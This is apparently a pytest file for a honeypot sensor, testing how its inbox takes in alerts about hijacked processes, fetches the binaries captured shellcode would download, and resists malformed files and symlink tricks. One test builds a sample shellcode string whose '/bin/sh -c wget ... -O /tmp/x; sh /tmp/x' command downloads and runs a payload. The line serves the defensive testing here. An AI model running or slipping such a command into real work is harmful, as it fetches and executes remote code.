"""What other programs hand in goes the way of the sensor's own facts; an alert of a possessed process, for one."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from pathlib import Path

import pytest

from eudaemon.events import Event, IdSource
from eudaemon.events.catalogue import LoginTried
from eudaemon.evidence import facts
from eudaemon.evidence.model import Evidence
from eudaemon.sensor.inbox import FILE_BYTES_MAX, FILES_MAX, Inbox, hand_in
from evidence.reports import evidence
from sensor.farm import farm
from sensor.harness import events, running
from sensor.test_fetching import LAB, site


async def test_an_alert_reaches_the_farm_with_its_artefacts(tmp_path: Path) -> None:
    one = evidence()
    async with farm(tmp_path) as (it, uplink), running(tmp_path, uplink=uplink) as sensor:
        name = sensor.sensor.settings.name
        told = facts.events(one, IdSource(os.urandom))
        assert hand_in(tmp_path / "inbox", one.report.id, told, facts.artefacts(one))
        await it.until("session.closed")
        assert list((tmp_path / "inbox").iterdir()) == []
    (seen,) = it.events("control.hijacked")
    assert (seen["sensor"], seen["how"], seen["verdict"]) == (name, "return", "contain")
    assert (seen["attacker"], seen["local"]) == ({"ip": "192.0.2.7", "port": 4444}, {"ip": "10.0.0.1", "port": 80})
    assert (seen["offset"], seen["size"], seen["instruction"]) == (105, 200, "ret")
    assert "\x1b" not in json.dumps(seen, ensure_ascii=False)
    assert it.artefacts[seen["code"]] == one.files["code.bin"]
    assert it.artefacts[seen["input"]] == one.files["input-0.bin"]
    assert {event["session"] for event in it.events("session.opened")} == {seen["session"]}
    assert it.missing == []


async def test_what_the_injected_code_would_download_is_fetched(tmp_path: Path) -> None:
    """So a catch in a possessed process ends as one of the sensor's own: with the binary."""
    sample = bytes(range(256)) * 9
    async with site(x=sample) as it, running(tmp_path, fetch=LAB) as sensor:
        code = b"\x90\x90\x0f\x05/bin/sh -c 'wget " + it.url.encode() + b"/x -O /tmp/x; sh /tmp/x'\0"
        one = evidence()
        one = Evidence(one.report, {**one.files, "code.bin": code})
        told = facts.events(one, IdSource(os.urandom))
        assert hand_in(tmp_path / "inbox", one.report.id, told, facts.artefacts(one))
        (finished,) = await sensor.until("download.finished")
    assert finished.fact.outcome == "ok"  # type: ignore[attr-defined]
    assert finished.fact.sha256 == hashlib.sha256(sample).hexdigest()  # type: ignore[attr-defined]
    assert (finished.session, finished.attacker) == (told[0].session, told[0].attacker)


async def test_what_only_an_emulated_cpu_has_seen_is_fetched_too(tmp_path: Path) -> None:
    """It is handed in later, and belongs to the same session; what both have found is fetched once."""
    sample = bytes(range(256)) * 9
    ids = IdSource(os.urandom)
    async with site(x=sample, y=b"other") as it, running(tmp_path, fetch=LAB) as sensor:
        told = facts.events(evidence(), ids, [(f"{it.url}/y", "wget")])
        late = facts.wished(told[0], ids, [(f"{it.url}/x", "shellcode"), ("tcp://127.0.0.1:9/", "shellcode")])
        assert hand_in(tmp_path / "inbox", "1", told, [b"sh -c 'wget %s/y'" % it.url.encode()])
        assert hand_in(tmp_path / "inbox", "1_examined", late, [])
        finished = await sensor.until("download.finished", count=3)
    wished = [event.fact.url for event in events(tmp_path, "download.wished")]  # type: ignore[attr-defined]
    assert wished == [f"{it.url}/y", f"{it.url}/x", "tcp://127.0.0.1:9/"]
    assert {event.fact.url.rpartition("/")[2]: event.fact.outcome for event in finished} == {  # type: ignore[attr-defined]
        "y": "ok", "x": "ok", "": "refused"
    }  # fmt: skip
    assert {(event.session, event.attacker) for event in finished} == {(told[0].session, told[0].attacker)}


def test_what_came_from_no_peer_is_no_session() -> None:
    told = facts.events(evidence(peer="", kind="stdin"), IdSource(os.urandom))
    assert [event.fact.kind for event in told] == ["control.hijacked", "artefact.kept", "artefact.kept"]
    assert all(not event.session and event.attacker is None for event in told)


class Taken:
    """What an inbox has given on."""

    def __init__(self, folder: Path) -> None:
        self.lines: list[bytes] = []
        self.commits = 0
        self.inbox = Inbox(
            folder, "me", self.lines.append, lambda data: None, self._commit, lambda *_: None, lambda *_: None
        )
        self.inbox.open()

    async def _commit(self) -> None:
        self.commits += 1

    def take(self) -> None:
        asyncio.run(self.inbox.take())


def login() -> list[Event]:
    return [Event(IdSource(os.urandom).new(1.0), 1.0, "x", LoginTried("a", "b", accepted=True))]


def test_it_stays_until_it_is_durable(tmp_path: Path) -> None:
    taken = Taken(tmp_path)
    assert hand_in(tmp_path, "one", login(), [])

    async def fails() -> None:
        raise OSError("the disk is full")

    taken.inbox._commit = fails
    with pytest.raises(OSError, match="full"):
        taken.take()
    assert [path.name for path in tmp_path.iterdir()] == ["one.json"]
    taken.inbox._commit = taken._commit
    taken.take()
    assert list(tmp_path.iterdir()) == []
    assert json.loads(taken.lines[-1])["sensor"] == "me"


WRONG = [
    b"", b"[]", b"{}", b'{"events": ["x"], "artefacts": []}', b'{"events": [], "artefacts": ["xyz"]}', b"\xff",
    b"0" * (FILE_BYTES_MAX + 1),
]  # fmt: skip


@pytest.mark.parametrize("wrong", WRONG)
def test_what_is_none_is_set_aside_and_the_rest_is_taken(tmp_path: Path, wrong: bytes) -> None:
    taken = Taken(tmp_path)
    (tmp_path / "a.json").write_bytes(wrong)
    hand_in(tmp_path, "b", login(), [])
    (tmp_path / ".c.json").write_bytes(b"not whole yet")
    taken.take()
    assert len(taken.lines) == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == [".c.json", "a.damaged"]


def test_so_many_wait_and_no_more(tmp_path: Path) -> None:
    for number in range(FILES_MAX - 1):
        (tmp_path / f"{number}.json").touch()
    assert hand_in(tmp_path, "last", login(), [])
    assert not hand_in(tmp_path, "one too many", login(), [])


def test_without_an_inbox_nothing_is_handed_in(tmp_path: Path) -> None:
    assert not hand_in(tmp_path / "nowhere", "x", login(), [])


def test_what_a_stranger_has_put_there_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "inbox").symlink_to(tmp_path / "real")
    with pytest.raises(OSError, match="Not a directory"):
        hand_in(tmp_path / "inbox", "x", login(), [])
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "real" / f".{os.getpid()}-x.json").symlink_to(victim)
    with pytest.raises(FileExistsError):
        hand_in(tmp_path / "real", "x", login(), [])
    assert victim.read_text() == "precious"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
def test_what_root_hands_in_the_sensor_may_remove(tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    os.chown(folder, 61880, 61880)
    assert hand_in(folder, "x", login(), [])
    assert (folder / "x.json").stat().st_uid == 61880
